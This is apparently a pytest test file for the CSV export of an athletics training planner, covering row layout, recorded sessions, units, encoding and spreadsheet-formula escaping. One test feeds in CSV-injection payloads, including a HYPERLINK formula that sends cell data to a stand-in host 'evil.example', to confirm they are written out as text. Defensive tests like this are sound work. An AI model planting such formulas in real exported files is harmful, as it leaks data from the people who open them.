"""The CSV export: one row per prescribed set with columns for what was done, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import date

import pytest
from hypothesis import HealthCheck, given, settings
from strategies import ANY_TEXT

from planner.document.demo import demo_season
from planner.document.edits import mark_missed, record_session
from planner.document.model import Season, Units, in_units
from planner.document.records import DoneItem, DoneSet, RecordStatus, SessionRecord
from planner.document.sessions import Category, Session, SessionKind
from planner.engine.generator import generate
from planner.engine.plan import Plan
from planner.export.csv import COLUMNS, csv_bytes, csv_text, safe_cell


@pytest.fixture(scope="module")
def season() -> Season:
    return demo_season()


@pytest.fixture(scope="module")
def plans(season: Season) -> list[Plan]:
    return [generate(season, "ath-1"), generate(season, "ath-4")]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def col(name: str) -> int:
    return COLUMNS.index(name)


DEMO = demo_season()


def csv_of(plans: list[Plan], season: Season = DEMO) -> str:
    return csv_text(season, plans)


def renamed(plan: Plan, name: str) -> Plan:
    return dataclasses.replace(plan, athlete=plan.athlete._replace(name=name))


def test_one_row_per_set_under_the_header(plans: list[Plan]) -> None:
    rows = read(csv_of(plans))
    assert tuple(rows[0]) == COLUMNS == (
        "date", "athlete", "session", "exercise", "set", "sets", "reps", "percent_max", "load", "unit",
        "distance_m", "contacts",
        "done_status", "done_reps", "done_load", "done_distance_m", "effort", "minutes", "note",
        "season", "season_id", "athlete_id", "kind", "item",
    )
    sets = sum(i.sets for plan in plans for day in plan.days for s in day.sessions for i in s.items)
    assert len(rows) - 1 == sets > 0
    assert all(len(row) == len(COLUMNS) for row in rows)
    dates = [row[0] for row in rows[1:]]
    assert dates == sorted(dates)
    assert {row[1] for row in rows[1:]} == {p.athlete.name for p in plans}
    assert {row[col("season_id")] for row in rows[1:]} == {str(DEMO.id)}
    assert {row[col("season")] for row in rows[1:]} == {DEMO.name}


def test_a_lift_gives_a_numbered_row_per_set_with_load_in_the_athletes_unit(plans: list[Plan]) -> None:
    noel = plans[1]
    session = next(
        s for day in noel.days for s in day.sessions
        if s.kind is SessionKind.WEIGHTS and any(i.percent_max and i.load and i.sets > 1 for i in s.items)
    )
    index, item = next((n, i) for n, i in enumerate(session.items) if i.percent_max and i.load and i.sets > 1)
    assert item.load is not None and item.percent_max is not None
    rows = [
        r for r in read(csv_of([noel]))
        if r[0] == session.date.isoformat() and r[col("kind")] == "weights" and r[col("item")] == str(index + 1)
    ]
    assert [r[col("set")] for r in rows] == [str(n) for n in range(1, item.sets + 1)]
    for row in rows:
        assert row[1:4] == [noel.athlete.name, session.title, item.name]
        assert row[5:8] == [str(item.sets), str(item.reps), f"{item.percent_max:g}"]
        assert row[8:10] == [f"{item.load:g}", "lb"]
        assert row[10:12] == ["", ""]
        assert row[col("done_status"):col("note") + 1] == [""] * 7
        assert row[col("athlete_id")] == noel.athlete.id


def test_a_plyometric_set_row_has_its_share_of_the_contacts_and_no_load(plans: list[Plan]) -> None:
    plan = plans[0]
    session = next(s for day in plan.days for s in day.sessions if s.kind is SessionKind.PLYOMETRICS)
    item = next(i for i in session.items if i.category is Category.PLYOMETRIC)
    rows = [r for r in read(csv_of([plan])) if r[0] == session.date.isoformat() and r[3] == item.name]
    assert len(rows) == item.sets
    assert sum(float(r[col("contacts")]) for r in rows) == pytest.approx(item.contacts)
    assert all(r[8:10] == ["", ""] for r in rows)
    assert rows[0][10] == ("" if item.distance_m is None else f"{item.distance_m:g}")


def _weights_session(plan: Plan) -> tuple[date, Session]:
    day = next(d for d in plan.days if any(s.kind is SessionKind.WEIGHTS and s.items for s in d.sessions))
    return day.date, next(s for s in day.sessions if s.kind is SessionKind.WEIGHTS)


def test_a_recorded_session_has_its_values_in_the_done_columns(plans: list[Plan]) -> None:
    plan = plans[0]
    on, session = _weights_session(plan)
    first = session.items[0]
    items = tuple(
        DoneItem(i.exercise_id, (DoneSet(reps=i.reps - 1, load=42.5),) * i.sets if n == 0 else ())
        for n, i in enumerate(session.items)
    )
    record = SessionRecord(
        plan.athlete.id, on, SessionKind.WEIGHTS, RecordStatus.PARTLY_DONE, session, plan.athlete.units,
        items, effort=7.5, minutes=50, note="=felt heavy",
    )
    season = record_session(DEMO, plan.athlete.id, on, SessionKind.WEIGHTS, record)
    rows = [r for r in read(csv_of([plan], season)) if r[0] == on.isoformat() and r[col("kind")] == "weights"]
    done = rows[0][col("done_status"):col("note") + 1]
    assert done == ["partly done", str(first.reps - 1), "42.5", "", "7.5", "50", "'=felt heavy"]
    later = [r for r in rows if r[col("item")] != "1"]
    assert later and all(r[col("done_reps")] == r[col("done_load")] == "" for r in later)
    assert all(r[col("done_status")] == "partly done" and r[col("effort")] == "7.5" for r in rows)


def test_a_recorded_sessions_loads_are_in_the_unit_it_was_recorded_in(plans: list[Plan]) -> None:
    plan = plans[0]
    on, session = next(
        (d.date, s) for d in plan.days for s in d.sessions
        if s.kind is SessionKind.WEIGHTS and any(i.load is not None for i in s.items)
        and any(i.load is None for i in s.items)
    )
    assert {i.unit for i in session.items} == {"kg"}
    # Recorded in lb beside a plan in kg: a week locked before the athlete switched units.
    items = tuple(DoneItem(i.exercise_id, (DoneSet(i.reps, 25.0),) * i.sets) for i in session.items)
    record = SessionRecord(plan.athlete.id, on, SessionKind.WEIGHTS, RecordStatus.DONE, session, Units.LB, items)
    season = record_session(DEMO, plan.athlete.id, on, SessionKind.WEIGHTS, record)
    rows = [r for r in read(csv_of([plan], season)) if r[0] == on.isoformat() and r[col("kind")] == "weights"]
    for row in rows:
        item = session.items[int(row[col("item")]) - 1]
        load = "" if item.load is None else f"{in_units(item.load, Units.KG, Units.LB):g}"
        assert (row[col("load")], row[col("unit")], row[col("done_load")]) == (load, "lb", "25")
    # A session not recorded keeps the prescription's own unit, written beside a prescribed load only.
    rows = [r for r in read(csv_of([plan])) if r[0] == on.isoformat() and r[col("kind")] == "weights"]
    assert {(r[col("load")] != "", r[col("unit")]) for r in rows} == {(True, "kg"), (False, "")}


def test_a_missed_session_says_so_on_every_row(plans: list[Plan]) -> None:
    plan = plans[0]
    on, session = _weights_session(plan)
    season = mark_missed(DEMO, plan.athlete.id, on, SessionKind.WEIGHTS, session)
    rows = [r for r in read(csv_of([plan], season)) if r[0] == on.isoformat() and r[col("kind")] == "weights"]
    assert rows and {r[col("done_status")] for r in rows} == {"missed"}
    assert {r[col("done_reps")] for r in rows} == {""}


def test_the_file_is_utf8_with_a_bom_and_crlf_line_ends(plans: list[Plan]) -> None:
    data = csv_bytes(DEMO, plans)
    assert data.startswith(b"\xef\xbb\xbfdate,athlete,")
    assert data.count(b"\r\n") == data.count(b"\n")
    assert "Łucja".encode() in data


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-2", "@cmd", "=1+1", "\tTab", "\rCR"],
)
def test_a_name_that_would_run_as_a_formula_is_written_as_text(plans: list[Plan], name: str) -> None:
    rows = read(csv_of([renamed(plans[0], name)]))
    names = {row[1] for row in rows[1:]}
    assert names == {"'" + name}
    # Numbers stay numbers: the escape is only for text cells.
    assert all(row[4].isdigit() and row[5].isdigit() for row in rows[1:])


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=SUM(A1:A9)", "'=SUM(A1:A9)"),
        ("+49 170", "'+49 170"),
        ("-", "'-"),
        ("@SUM(1)", "'@SUM(1)"),
        ("Anna = Bob", "Anna = Bob"),
        ("Zoë", "Zoë"),
        ("'t Hooft", "'t Hooft"),
        ("'=1+1", "''=1+1"),
        ("", ""),
    ],
)
def test_safe_cell(text: str, cell: str) -> None:
    assert safe_cell(text) == cell


def test_no_plans_gives_only_the_header() -> None:
    assert csv_of([]) == ",".join(COLUMNS) + "\r\n"


# ---------------------------------------------------------------------------------------------
# Any text the model can hold



def test_a_lone_surrogate_in_a_name_is_left_out_instead_of_failing_the_file(plans: list[Plan]) -> None:
    # UTF-8 cannot encode half of a pair: csv_bytes failed with a UnicodeEncodeError.
    data = csv_bytes(DEMO, [renamed(plans[0], "Jon\ud800as")])
    rows = read(data.decode("utf-8-sig"))
    assert {row[1] for row in rows[1:]} == {"Jonas"}


@pytest.mark.parametrize("name", ["Ann\nLee", "Ann\r\nLee", "Ann\x00Lee", 'Ann "the rocket", Lee; 400 m'])
def test_line_breaks_quotes_and_control_characters_come_back_as_written(plans: list[Plan], name: str) -> None:
    rows = read(csv_bytes(DEMO, [renamed(plans[0], name)]).decode("utf-8-sig"))
    assert {row[1] for row in rows[1:]} == {name}
    assert all(len(row) == len(COLUMNS) for row in rows)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=ANY_TEXT)
def test_any_name_at_all_is_written(plans: list[Plan], name: str) -> None:
    short = dataclasses.replace(plans[0], days=plans[0].days[:14])
    rows = read(csv_bytes(DEMO, [renamed(short, name)]).decode("utf-8-sig"))
    expected = safe_cell("".join(c for c in name if not "\ud800" <= c <= "\udfff"))
    assert len(rows) > 1
    assert {row[1] for row in rows[1:]} == {expected}
    assert all(len(row) == len(COLUMNS) for row in rows)
